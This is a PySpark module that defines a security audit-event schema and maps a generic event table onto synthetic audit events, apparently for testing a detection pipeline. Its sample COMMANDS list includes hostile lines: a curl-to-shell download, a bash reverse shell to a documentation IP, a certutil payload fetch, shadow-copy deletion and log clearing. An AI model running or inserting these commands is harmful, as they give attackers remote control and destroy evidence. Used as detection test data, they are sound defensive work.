"""The audit event schema, severity ranks, and the reading of the driver's event table as audit events."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F
from pyspark.sql import types as T

# Names of the ordered and unordered enumerations.
SEVERITIES = ("info", "low", "medium", "high", "critical")
SEVERITY_ALIASES = {"info": 0, "0": 0, "low": 1, "1": 1, "medium": 2, "med": 2, "2": 2, "high": 3, "3": 3, "critical": 4, "crit": 4, "4": 4}
CATEGORIES = ("auth", "session", "process", "privilege", "account", "file", "service", "package", "alert", "incident", "agent")
OUTCOMES = ("success", "failure", "unknown")
LEVELS = ("normal", "warning", "critical")
RESOURCES = ("cpu", "memory", "disk", "network")

_KINDS = {"bigint": T.LongType(), "int": T.IntegerType(), "string": T.StringType(), "float": T.FloatType(), "double": T.DoubleType(), "boolean": T.BooleanType(), "timestamp": T.TimestampType(), "strings": T.ArrayType(T.StringType())}


def struct_of(text: str, **more: T.DataType) -> T.StructType:
    """`name kind, …` as a type, without a session; `strings` is an array of strings, further fields follow."""
    pairs = [f.split() for f in text.split(",")]
    return T.StructType([*[T.StructField(n, _KINDS[k.lower()]) for n, k in pairs], *[T.StructField(n, k) for n, k in more.items()]])


PROCESS = struct_of("pid BIGINT, ppid BIGINT, name STRING, exe STRING, command_line STRING, cwd STRING, parent_name STRING, run_as STRING")

#: What parsers produce. `keys` tie an event to a session, `learn` are keys that the session takes over from it.
EVENT = T.StructType(
    [
        T.StructField("id", T.LongType()),
        T.StructField("arrival_seq", T.LongType()),
        T.StructField("ts", T.TimestampType()),
        *[T.StructField(c, T.StringType()) for c in ("host", "category", "action", "outcome")],
        T.StructField("severity", T.IntegerType()),
        *[T.StructField(c, T.StringType()) for c in ("user", "src_ip", "session_id")],
        T.StructField("process", PROCESS),
        *[T.StructField(c, T.StringType()) for c in ("target", "message", "details", "before_sha", "after_sha")],
        T.StructField("keys", T.ArrayType(T.StringType())),
        T.StructField("learn", T.ArrayType(T.StringType())),
    ]
)

SESSION = struct_of(
    "id string, host string, user string, protocol string, src_ip string, src_port int, auth_method string, key_fingerprint string, "
    "start_ts timestamp, end_ts timestamp, last_activity timestamp, status string, end_reason string, keys strings, base_keys int, "
    "commands bigint, privileged bigint, file_changes bigint, alerts bigint, max_severity int"
)

METRICS = struct_of(
    "host string, ts timestamp, cpu_pct float, mem_pct float, disk_max_pct float",
    top_processes=T.ArrayType(struct_of("pid bigint, parent_pid bigint, name string, cpu_percent float, memory_bytes bigint, read_bytes_per_sec double, write_bytes_per_sec double")),
    services=T.ArrayType(struct_of("name string, state string, description string")),
)


def severity_rank(c: Column) -> Column:
    """Rank of a severity name or alias; null for anything else."""
    known = F.create_map(*[F.lit(x) for kv in SEVERITY_ALIASES.items() for x in kv])
    return F.try_element_at(known, F.lower(F.trim(c)))


def severity_name(c: Column) -> Column:
    """Name of a rank; ranks outside 0..4 count as the nearest."""
    return F.element_at(F.array(*[F.lit(s) for s in SEVERITIES]), F.greatest(F.lit(0), F.least(F.lit(4), c)).cast("int") + 1)


def level_rank(c: Column) -> Column:
    return F.array_position(F.array(*[F.lit(x) for x in LEVELS]), c) - 1


def pick(values: list[str] | tuple[str, ...], key: str) -> str:
    """SQL for values[key % n], a text that Spark and DuckDB both read."""
    quoted = ["NULL" if v is None else "'" + v.replace("'", "''") + "'" for v in values]
    cases = " ".join(f"WHEN {k} THEN {v}" for k, v in enumerate(quoted))
    return f"CASE ({key}) % {len(values)} {cases} END"


# What the adapted events name.
PROCESSES = ("bash", "nginx", "python3", "dpkg", "cron", "apt", "vim", "powershell.exe", "sh", "ansible")
PARENTS = ("nginx", "systemd", "sshd", "php-fpm8.1", "w3wp.exe", "bash", "tomcat9")
COMMANDS = (
    "ls -la /home",
    "curl -s http://203.0.113.7/x.sh | sh",
    "vim /etc/ssh/sshd_config",
    "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1",
    "cp /etc/passwd /tmp/passwd.bak",
    "history -c",
    "xmrig --threads 4",
    "setenforce 0",
    "tail -f app.log",
    "chattr +i /etc/crontab",
    "vssadmin delete shadows /all",
    "mysql -uroot -phunter2 -e status",
    "apt install nginx",
    "nano authorized_keys",
    "python3 report.py --token abcdef123",
    "wevtutil cl Security",
    "certutil -urlcache -f http://203.0.113.7/a.exe",
)
FILES = (
    "/etc/passwd",
    "/etc/ssh/sshd_config",
    "/home/user1/.ssh/authorized_keys",
    "/var/www/index.html",
    "/etc/crontab",
    "/etc/sudoers.d/ops",
    "/opt/app/app.log",
    "/etc/hosts",
    "/srv/data/report.py",
    "/etc/ld.so.preload",
    "/tmp/50%_done.txt",
)

N, U = "event_id", "user_id"
_RUNS = "event_type IN ('click', 'purchase')"

#: Column -> SQL over the driver's events, the same for Spark and DuckDB. The hash columns are not part of it.
ADAPTED = {
    "id": N,
    "host": f"'host' || CAST({U} % 5 AS STRING)",
    "category": "CASE event_type WHEN 'error' THEN 'auth' WHEN 'signup' THEN 'session' WHEN 'purchase' THEN 'privilege' WHEN 'click' THEN 'process' ELSE 'file' END",
    "action": "CASE event_type WHEN 'error' THEN 'auth.failure' WHEN 'signup' THEN 'session.start' WHEN 'purchase' THEN 'privilege.sudo' WHEN 'click' THEN 'process.start' ELSE 'file.modified' END",
    "outcome": f"CASE WHEN event_type = 'error' OR (event_type = 'purchase' AND {N} % 7 = 0) THEN 'failure' WHEN event_type IN ('signup', 'purchase') THEN 'success' ELSE 'unknown' END",
    "severity": "CASE WHEN value >= 110 THEN 4 WHEN value >= 80 THEN 3 WHEN value >= 50 THEN 2 WHEN value >= 25 THEN 1 ELSE 0 END",
    "user": f"CASE WHEN {N} % 11 = 0 THEN NULL WHEN {N} % 2 = 0 THEN 'User' || CAST({U} % 60 AS STRING) ELSE 'user' || CAST({U} % 60 AS STRING) END",
    "src_ip": f"CASE WHEN {N} % 13 = 0 THEN NULL WHEN {N} % 17 = 0 THEN '127.0.0.1' ELSE '203.0.113.' || CAST({U} % 50 AS STRING) END",
    "session_id": f"CASE WHEN {N} % 3 = 0 THEN 'S' || CAST({U} AS STRING) END",
    "pid": f"CASE WHEN {N} % 19 = 0 THEN NULL ELSE 1000 + {N} % 500 END",
    "process_name": f"CASE WHEN {_RUNS} THEN {pick(PROCESSES, N)} END",
    "parent_name": f"CASE WHEN {_RUNS} THEN {pick(PARENTS, N)} END",
    "command_line": f"CASE WHEN {_RUNS} THEN {pick(COMMANDS, N)} END",
    "cwd": f"CASE WHEN {_RUNS} THEN {pick(('/opt/app', '/root', '/srv/data'), N)} END",
    "target": f"CASE WHEN event_type = 'view' THEN {pick(FILES, N)} END",
    "after_sha": f"CASE WHEN event_type = 'view' THEN 'sha' || CAST({N} % 4 AS STRING) END",
    "message": f"event_type || ' #' || CAST({N} % 100 AS STRING) || ' by ' || CAST({U} AS STRING)",
    "protocol": f"CASE WHEN event_type = 'signup' THEN {pick(('ssh', 'rdp', 'console'), N)} END",
    "value": "value",
}


def adapted(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The driver's events as audit events with flat process columns; us is the time in microseconds."""
    raw = spark.read.parquet(f"{sf_dir}/events.parquet")
    out = raw.select(*[F.expr(sql).alias(name) for name, sql in ADAPTED.items()], F.col("ts").cast("timestamp").alias("ts"))
    return out.withColumn("us", F.unix_micros("ts"))


#: The same for DuckDB, as a common table expression named ev.
ADAPTED_SQL = "ev AS (SELECT " + ", ".join(f"{sql} AS {name if name != 'user' else chr(34) + 'user' + chr(34)}" for name, sql in ADAPTED.items()) + ", ts, epoch_us(ts) AS us FROM events)"
